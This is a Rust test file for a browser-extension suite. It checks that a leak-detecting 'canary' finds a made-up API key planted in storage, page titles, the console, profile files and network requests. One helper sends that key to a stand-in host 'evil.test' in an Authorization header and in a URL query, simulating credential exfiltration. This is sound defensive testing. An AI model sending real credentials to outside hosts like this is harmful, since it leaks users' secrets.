//! Tests the canary itself: it finds planted keys, and it has searched every stage of the run.

use anyhow::{Result, ensure};
use browser_suite::canary::{self, Canary, Finding, Watched};
use browser_suite::scenario::chromium;
use browser_suite::wait::until;
use browser_suite::{SOON, Stage};
use libtest_mimic::Trial;
use serde_json::json;
use simulated_openai::{Credential, LoggedRequest, samples};

pub fn trials() -> Vec<Trial> {
    vec![
        chromium("canary::finds_a_key_wherever_it_is_planted", samples::world, finds_what_is_planted),
        // Must run last, because it counts the searched stages.
        Trial::test("canary::searched_every_stage", || Ok(searched_every_stage().map_err(|error| error.to_string())?)),
    ]
}

async fn finds_what_is_planted(stage: &mut Stage) -> Result<()> {
    // Only this canary knows the key, so that the stage's own search at the end does not fail because of it.
    let key = Credential::new("sess-MadeUpToBePlanted5Wn8Cq1Zr4Mk7Ty2Hb6Jd");
    let canary = Canary::new([Watched::of_openai(key.clone())]);
    let (_platform, popup) = stage.popup_of(samples::PREPAID).await?;
    let places = async |stage: &Stage| -> Result<Vec<String>> {
        let findings = canary.search_running(stage.browser()?, stage.backstage()?).await;
        findings.map(named)
    };
    // This canary knows only the planted key, so it reports the real key as one that was not issued.
    let unknown = places(stage).await.err().map(|error| error.to_string()).unwrap_or_default();
    ensure!(unknown.contains("that nobody issued"), "a key of unknown origin in storage.session: {unknown:?}");
    stage.backstage()?.tab().eval("browser.storage.session.clear()").await?;
    stage.backstage()?.tab().eval("browser.storage.local.clear()").await?;
    ensure!(places(stage).await?.is_empty(), "found before it was planted");

    let page = &popup.tab;
    let planted = json!(key.expose());
    page.eval(&format!("browser.storage.local.set({{ planted: {planted} }})")).await?;
    page.eval(&format!("document.querySelector('h1').title = {planted}")).await?;
    page.eval(&format!("browser.action.setTitle({{ title: {planted} }})")).await?;
    page.eval(&format!("console.log({planted})")).await?;
    let found = places(stage).await?;
    for place in ["storage.local", "the badge", "the page chrome-extension://"] {
        ensure!(found.iter().any(|it| it.starts_with(place)), "not found in {place}, only in {found:?}");
    }
    until("the key to be found in the console", SOON, async || {
        let found = canary.search_console(&stage.browser()?.console());
        Ok(if found.is_empty() { Err("nothing") } else { Ok(()) })
    })
    .await?;
    in_a_request(stage, &canary, &key).await?;
    page.eval("document.querySelector('h1').title = ''").await?;

    let profile = stage.profile().to_owned();
    stage.restart().await?;
    let utf16: Vec<u8> = key.expose().encode_utf16().flat_map(u16::to_le_bytes).collect();
    std::fs::write(profile.join("planted in plain sight"), key.expose())?;
    std::fs::write(profile.join("Default/planted as UTF-16"), [b"before ", utf16.as_slice()].concat())?;
    let found = named(canary.search_files(&profile)?);
    for place in ["planted in plain sight", "planted as UTF-16", "Local Extension Settings"] {
        ensure!(found.iter().any(|it| it.contains(place)), "not found in {place}, only in {found:?}");
    }
    Ok(())
}

/// A key in a URL is misplaced, and so is one in a header to another site.
async fn in_a_request(stage: &Stage, canary: &Canary, key: &Credential) -> Result<()> {
    let site = stage.browser()?.new_tab().await?;
    site.goto("https://evil.test/").await?;
    let header = json!({ "Authorization": format!("Bearer {}", key.expose()) });
    site.eval(&format!("fetch('/in-a-header', {{ headers: {header} }}).then(() => null)")).await?;
    site.eval(&format!("fetch('/in-an-address?key={}').then(() => null)", key.expose())).await?;
    let requests: Vec<LoggedRequest> = stage.openai.requests();
    let found = canary.search_requests(&requests).len();
    ensure!(found >= 2, "found in {found} of two requests");
    site.close().await?;
    Ok(())
}

fn named(findings: Vec<Finding>) -> Vec<String> {
    findings.into_iter().map(|finding| finding.place).collect()
}

fn searched_every_stage() -> Result<()> {
    let (opened, searched) = canary::stages();
    ensure!(opened > 0, "no stage was opened in this run: run the scenarios, too");
    ensure!(opened == searched, "{opened} stages were opened, and only {searched} were searched from end to end");
    Ok(())
}
